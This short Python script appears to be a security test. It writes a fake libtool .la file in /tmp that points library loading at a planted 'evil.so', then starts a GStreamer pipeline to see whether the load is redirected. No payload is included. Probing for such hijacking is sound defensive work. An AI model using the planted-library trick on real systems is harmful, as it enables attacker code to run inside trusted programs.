import os

import gi

os.chdir('/tmp')
with open('libgstreamer-1.0.so.0.la', 'w') as file:  # that GLib would follow
    file.write("dlname='evil.so'\nlibdir='/tmp'\ninstalled=yes\n")
gi.require_version('Gst', '1.0')
from gi.repository import Gst

Gst.init(None)
pipeline = Gst.parse_launch('audiotestsrc num-buffers=3 ! audioconvert ! fakesink')
pipeline.set_state(Gst.State.PLAYING)
message = pipeline.get_bus().timed_pop_filtered(10 * Gst.SECOND, Gst.MessageType.EOS | Gst.MessageType.ERROR)
print(message.type.first_value_nick)
pipeline.set_state(Gst.State.NULL)
